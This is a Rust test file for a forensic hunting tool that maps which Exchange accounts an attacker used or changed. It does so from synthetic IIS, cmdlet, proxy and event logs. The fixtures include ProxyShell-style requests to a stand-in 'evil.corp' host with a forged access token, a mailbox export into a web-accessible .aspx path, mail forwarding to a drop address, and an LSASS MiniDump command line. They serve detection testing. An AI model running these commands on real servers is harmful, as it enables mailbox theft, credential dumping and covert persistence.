//! Whose mailboxes and credentials the attacker touched: one example of each source and action,
//! gathered into the host's `accounts` list with the findings behind each.

mod fixtures;

use base64::Engine;
use fixtures::*;
use taskforce_evidence::Evidence;
use taskforce_hunt::{Options, hunt_host};
use taskforce_report::{ALL_SESSIONS, Account, AccountAction as A};
use taskforce_rules::RuleSet;
use taskforce_sigma::SigmaSet;

const CMDLET_FIELDS: &str = "#Fields: DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters";

fn cmdlet_row(time: &str, user: &str, cmdlet: &str, params: &str) -> String {
    format!(
        "{time},{time},7efde5b0-80b6-4be3-8471-92b0f9150fa4,,15,1,2176,2,EXCH01,15756,w3wp#MSExchangePowerShellAppPool,42,en-US,,{user},S-1-5-21-1-2-3-500,,,True,EMS,{cmdlet},\"{}\"",
        params.replace('"', "\"\"")
    )
}

/// A CommonAccessToken laid out as documented (version, type, compression, auth type, login,
/// SID, groups, extensions): inert test data naming a user.
fn rps_cat(login: &str, sid: &str) -> String {
    let mut t = vec![b'V', 1, 0, b'T', 7];
    t.extend_from_slice(b"Windows");
    t.extend_from_slice(&[b'C', 0, b'A', 8]);
    t.extend_from_slice(b"Kerberos");
    t.push(b'L');
    t.push(login.len() as u8);
    t.extend_from_slice(login.as_bytes());
    t.push(b'U');
    t.push(sid.len() as u8);
    t.extend_from_slice(sid.as_bytes());
    t.push(b'G');
    t.extend_from_slice(&1u32.to_le_bytes());
    t.extend_from_slice(&7u32.to_le_bytes());
    t.push(12);
    t.extend_from_slice(b"S-1-5-32-544");
    t.extend_from_slice(&[b'E', 0, 0, 0, 0]);
    base64::engine::general_purpose::STANDARD.encode(t).replace('+', "%2B").replace('/', "%2F").replace('=', "%3D")
}

fn event(channel: &str, provider: &str, id: u32, time: &str, rec: u32, data: &str) -> String {
    format!(
        r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"{provider}"}}}},"EventID":{id},"Level":4,"TimeCreated":{{"#attributes":{{"SystemTime":"{time}"}}}},"EventRecordID":{rec},"Channel":"{channel}","Computer":"EXCH01.contoso.local"}},"EventData":{data}}}}}"##
    )
}

/// An HttpProxy row of the ProxyLogon SSRF seen in the BackEndCookie column, whose request was
/// anchored to a mailbox (`Smtp~…`): the mailbox the attacker acted as.
fn ssrf_row_anchored(anchor: &str) -> String {
    PROXY_FIELDS
        .split(',')
        .map(|name| match name {
            "DateTime" => "2021-03-03T04:30:00.000Z",
            "MajorVersion" => "15",
            "MinorVersion" => "1",
            "BuildVersion" => "2176",
            "RevisionVersion" => "2",
            "Protocol" => "Ews",
            "UrlStem" => "/ews/exchange.asmx",
            "AnchorMailbox" => anchor,
            "BackEndCookie" => "Server~EXCH01.contoso.local/ews/exchange.asmx?a=~1942062522",
            "ClientIpAddress" => "203.0.113.45",
            "HttpStatus" => "200",
            "Method" => "POST",
            "UserAgent" => "python-requests/2.25.1",
            _ => "",
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn find<'a>(accounts: &'a [Account], name: &str) -> &'a Account {
    accounts
        .iter()
        .find(|a| a.account.eq_ignore_ascii_case(name))
        .unwrap_or_else(|| panic!("{name} not in {:#?}", accounts.iter().map(|a| &a.account).collect::<Vec<_>>()))
}

#[test]
fn every_source_names_its_accounts() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let token = rps_cat("administrator@contoso.com", "S-1-5-21-3623811015-3361044348-30300820-500");
    write(
        root,
        "inetpub/logs/LogFiles/W3SVC1/u_ex210821.log",
        &iis(&[
            &format!(
                "2021-08-21 10:01:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT={token}&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.7 python-requests/2.26.0 - 200 0 0 15"
            ),
            "2021-08-21 10:00:30 10.0.0.5 GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=jane.doe@contoso.com 443 - 198.51.100.7 python-requests/2.26.0 - 200 0 0 15",
            // A token that is not one: noted on the finding, never guessed.
            "2021-08-21 10:02:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.7 python-requests/2.26.0 - 200 0 0 15",
        ]),
    );
    write(
        root,
        &format!("{EXI}/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021082110-1.LOG"),
        &format!(
            "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: Rps Cmdlet Logs\r\n#Date: 2021-08-21T10:00:00.000Z\r\n{CMDLET_FIELDS}\r\n{}\r\n{}\r\n",
            cmdlet_row(
                "2021-08-21T10:03:00.000Z",
                "CONTOSO\\Administrator",
                "New-ManagementRoleAssignment",
                r#"-Role "Mailbox Import Export" -User "administrator@contoso.com""#
            ),
            cmdlet_row(
                "2021-08-21T10:03:10.000Z",
                "NT AUTHORITY\\SYSTEM",
                "New-MailboxExportRequest",
                r#"-Mailbox "ceo@contoso.com" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\x.aspx""#
            ),
        ),
    );
    write(
        root,
        &format!("{EXI}/Logging/HttpProxy/Ews/HttpProxy_2021030304-1.LOG"),
        &httpproxy(&[ssrf_row_anchored("Smtp~it-admin@contoso.com")]),
    );
    write(
        root,
        &format!("{EXI}/Logging/ECP/Server/ECPServer20210303-1.LOG"),
        &ecp(&[
            "2021-03-03T05:00:00.000Z,EXCH01,ECP.Request,\"S:TIME=120;S:CMD=Set-Mailbox.Identity='payroll@contoso.com'.ForwardingSmtpAddress='smtp:drop@mailbox.example';S:RS=0\"",
        ]),
    );
    let mx = |t: &str, rec: u32, cmd: &str, params: &str| {
        event(
            "MSExchange Management",
            "MSExchange CmdletLogs",
            1,
            t,
            rec,
            &format!(r#"{{"Data":["{cmd}",{}]}}"#, serde_json::Value::String(params.into())),
        )
    };
    let sec = |id: u32, t: &str, rec: u32, data: &str| {
        event("Security", "Microsoft-Windows-Security-Auditing", id, t, rec, data)
    };
    let lines = [
        mx(
            "2021-08-21T10:06:30Z",
            8,
            "Add-RoleGroupMember",
            r#"-Identity "Organization Management" -Member "svc-backup""#,
        ),
        mx(
            "2021-08-21T10:05:00Z",
            1,
            "Set-Mailbox",
            r#"-Identity "cfo@contoso.com" -ForwardingSmtpAddress "smtp:drop@mailbox.example""#,
        ),
        mx(
            "2021-08-21T10:06:00Z",
            2,
            "New-InboxRule",
            r#"-Mailbox "hr@contoso.com" -Name "." -ForwardTo "drop@mailbox.example""#,
        ),
        mx(
            "2021-08-21T10:07:00Z",
            3,
            "Search-Mailbox",
            r#"-Identity "legal@contoso.com" -SearchQuery "merger" -TargetMailbox "Administrator" -TargetFolder "x""#,
        ),
        sec(
            4720,
            "2021-08-21T10:10:00Z",
            4,
            r#"{"TargetUserName":"support_adm","TargetDomainName":"EXCH01","SubjectUserName":"EXCH01$"}"#,
        ),
        sec(
            4732,
            "2021-08-21T10:10:05Z",
            5,
            r#"{"MemberName":"-","MemberSid":"S-1-5-21-1-2-3-1009","TargetUserName":"Administrators","TargetSid":"S-1-5-32-544","SubjectUserName":"EXCH01$"}"#,
        ),
        sec(
            4724,
            "2021-08-21T10:11:00Z",
            6,
            r#"{"TargetUserName":"helpdesk2","TargetDomainName":"CONTOSO","SubjectUserName":"EXCH01$"}"#,
        ),
        event(
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
            1,
            "2021-08-21T10:12:00Z",
            7,
            r#"{"Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Windows\\Temp\\l.dmp full","ParentImage":"c:\\windows\\system32\\inetsrv\\w3wp.exe"}"#,
        ),
    ];
    write(root, "events/export.jsonl", &(lines.join("\n") + "\n"));

    let ev = Evidence::open(root).unwrap();
    let sigma = SigmaSet::builtin();
    let report = hunt_host(&ev, &RuleSet::builtin(), Options { sigma: Some(&sigma), ..Options::default() });
    let accounts = &report.host.accounts;

    let admin = find(accounts, "administrator@contoso.com");
    assert!(admin.actions.contains(&A::UsedByAttacker), "from the decoded X-Rps-CAT: {admin:?}");
    assert!(admin.actions.contains(&A::RoleGranted), "from -User of the role assignment: {admin:?}");
    assert_eq!(admin.kind, "address");
    assert!(admin.findings.iter().any(|f| f.rule == "TF-PS-02"));
    assert!(admin.note.contains("reset its password"), "{}", admin.note);
    assert_eq!(find(accounts, "jane.doe@contoso.com").actions, vec![A::UsedByAttacker], "Email= of the request");
    let ceo = find(accounts, "ceo@contoso.com");
    assert!(ceo.actions.contains(&A::MailboxExported));
    assert!(ceo.note.contains("tell the mailbox's owner"), "{}", ceo.note);
    assert!(find(accounts, "cfo@contoso.com").actions.contains(&A::ForwardingSet));
    assert!(find(accounts, "hr@contoso.com").actions.contains(&A::InboxRuleSet));
    assert!(find(accounts, "legal@contoso.com").actions.contains(&A::MailboxSearched));
    assert!(find(accounts, "support_adm").actions.contains(&A::Created));
    assert!(find(accounts, "S-1-5-21-1-2-3-1009").actions.contains(&A::AddedToGroup));
    assert_eq!(find(accounts, "S-1-5-21-1-2-3-1009").kind, "sid");
    assert!(find(accounts, "helpdesk2").actions.contains(&A::PasswordReset));
    assert!(
        find(accounts, "it-admin@contoso.com").actions.contains(&A::UsedByAttacker),
        "HttpProxy AnchorMailbox on an exploit line"
    );
    assert!(find(accounts, "payroll@contoso.com").actions.contains(&A::ForwardingSet), "the ECP log's Set-Mailbox");
    assert!(find(accounts, "svc-backup").actions.contains(&A::AddedToGroup), "-Member of Add-RoleGroupMember");
    let all = find(accounts, ALL_SESSIONS);
    assert_eq!((all.kind.as_str(), all.actions.as_slice()), ("all_sessions", &[A::CredentialsExposed][..]));
    assert!(
        accounts.iter().all(|a| !a.account.to_ascii_lowercase().starts_with("nt authority")),
        "system principals are not accounts to reset"
    );
    assert!(
        accounts.iter().all(|a| a.account != "EXCH01$"),
        "the server acting as itself is the all-sessions case, not a user"
    );
    // Worst first: credential exposure and impersonation lead.
    assert!(accounts[0].actions.iter().any(|a| matches!(a, A::CredentialsExposed | A::UsedByAttacker)));
    // The forged token that could not be read is noted on its finding.
    assert!(
        report.host.findings.iter().any(|f| f
            .detail
            .get("account_note")
            .and_then(|v| v.as_str())
            .is_some_and(|n| n.contains("not decoded")))
    );
    for a in accounts {
        assert!(!a.findings.is_empty(), "{} has its evidence", a.account);
        assert!(a.first.is_some(), "{} has a time", a.account);
    }
}

#[test]
fn an_lsass_dump_on_disk_exposes_every_session() {
    use taskforce_files::{Sweep, SweepConfig};
    let dir = tempfile::tempdir().unwrap();
    quiet(dir.path());
    write(dir.path(), "Windows/Temp/lsass.dmp", "MDMP-not-a-real-dump");
    let (sweep, problems) = Sweep::load(&SweepConfig::default());
    assert!(problems.is_empty(), "{problems:?}");
    let ev = Evidence::open(dir.path()).unwrap();
    let report = hunt_host(&ev, &RuleSet::builtin(), Options { files: Some(&sweep), ..Options::default() });
    let all = find(&report.host.accounts, ALL_SESSIONS);
    assert_eq!(all.actions, vec![A::CredentialsExposed]);
    assert!(all.findings.iter().any(|f| f.rule == "TF-FS-06-LSASS-DUMP"), "{:?}", all.findings);
    assert!(all.note.contains("reset them all"), "{}", all.note);
}

/// Enough of a server for the hunt to read something.
fn quiet(root: &std::path::Path) {
    write(
        root,
        "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        &iis(&["2021-03-03 04:20:00 10.0.0.5 GET /owa/ - 443 - 10.0.0.7 Mozilla/5.0 - 200 0 0 15"]),
    );
}
